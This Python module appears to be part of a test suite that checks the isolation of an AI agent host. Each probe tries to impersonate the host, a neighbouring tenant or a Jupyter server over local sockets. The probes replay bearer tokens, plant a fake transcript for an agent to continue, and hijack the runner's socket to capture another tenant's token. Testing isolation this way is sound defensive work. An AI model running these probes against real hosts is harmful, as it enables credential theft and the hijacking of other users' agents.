"""Attempts to speak as somebody else: as the host to the runner, as another notebook, as a kernel, as a browser."""

from __future__ import annotations

import os
import socket
import sys

from attempt import Parameters, RefusedError, attempt, main
from wire import way_out

_HERE = "/run/agent-host/runner.sock"


def _ask(path: str, request: str, token: str) -> str:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(5)
        connection.connect(path)
        connection.sendall(request.format(token=token).replace("\n", "\r\n").encode())
        answer = connection.recv(4096)
    if not answer.startswith((b"HTTP/1.1 200", b"HTTP/1.1 204", b"HTTP/1.1 101")):
        raise RefusedError(answer[:60].decode(errors="replace") or "it hung up")
    return answer[:15].decode()


@attempt
def ask_the_runner(given: Parameters) -> str:
    """Ask the runner as the host does, with its token."""
    request = "GET /healthz HTTP/1.1\nHost: runner\nAuthorization: Bearer {token}\nConnection: close\n\n"
    return _ask(given.get("socket_here") or _HERE, request, given["token"])


@attempt
def control_the_runner(given: Parameters) -> str:
    """Open a stream to the runner as the host does, with its token."""
    request = (
        "GET /carry/0000 HTTP/1.1\nHost: runner\nAuthorization: Bearer {token}\nConnection: Upgrade\n"
        "Upgrade: websocket\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\nSec-WebSocket-Version: 13\n\n"
    )
    return _ask(given.get("socket_here") or _HERE, request, given["token"])


@attempt
def plant_a_conversation(given: Parameters) -> str:
    """Upload a conversation to the runner, for the agent to go on with."""
    request = (
        "PUT /sessions/12345678-1234-4234-8234-123456789012/transcript HTTP/1.1\nHost: runner\n"
        "Authorization: Bearer {token}\nConnection: close\nContent-Length: 0\n\n"
    )
    return _ask(given.get("socket_here") or _HERE, request, given["token"])


@attempt
def neighbours_runner(given: Parameters) -> str:
    """Ask the neighbour's runner, knowing its socket and its token."""
    request = "GET /healthz HTTP/1.1\nHost: runner\nAuthorization: Bearer {token}\nConnection: close\n\n"
    return _ask(given["neighbours_socket"], request, given["neighbours_token"])


@attempt
def neighbours_process(given: Parameters) -> str:
    """Send a signal to the neighbour's runner (one that only asks whether it is there)."""
    os.kill(given["neighbours_pid"], 0)
    return "it would arrive"


@attempt
def server_as_its_person(given: Parameters) -> str:
    """Ask the Jupyter server about the neighbour's agent, with the server's own token."""
    with socket.create_connection(("127.0.0.1", given["server_port"]), 5) as connection:
        connection.sendall(
            f"GET /agent-host/notebooks HTTP/1.1\r\nHost: 127.0.0.1:{given['server_port']}\r\n"
            f"Authorization: token {given['server_token']}\r\nConnection: close\r\n\r\n".encode()
        )
        answer = connection.recv(4096)
    if not answer.startswith(b"HTTP/1.1 200"):
        raise RefusedError(answer[:60].decode(errors="replace"))
    return "it answered"


@attempt
def replace_the_socket(given: Parameters) -> str:
    """Listen in the runner's place, so that the host's next streams come to us. Our own box loses by that."""
    path = given.get("socket_to_replace") or _HERE
    os.rename(path, path + "-before")
    try:
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(path)
            listener.listen()
            listener.settimeout(5)
            with _somebody_dials(given, path):
                taken, _ = listener.accept()
                with taken:
                    head = taken.recv(65536)
    except TimeoutError as err:
        raise RefusedError("nobody came") from err
    finally:
        os.rename(path + "-before", path)
    if given["neighbours_token"].encode() in head:
        return "the neighbour's token"
    raise RefusedError("only our own box's token" if b"Bearer" in head else "nothing of use")


def _somebody_dials(given: Parameters, path: str) -> socket.socket:
    """Inside: a request to the way out, for which the host dials in. Outside: what a host of the neighbour's says."""
    if "socket_to_replace" not in given:
        asking = socket.create_connection(way_out(given), 5)
        asking.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}")
        return asking
    dialled = socket.socket(socket.AF_UNIX)
    dialled.connect(path)
    dialled.sendall(f"Authorization: Bearer {given['neighbours_token']}\r\n\r\n".encode())
    return dialled


if __name__ == "__main__":
    sys.exit(main())
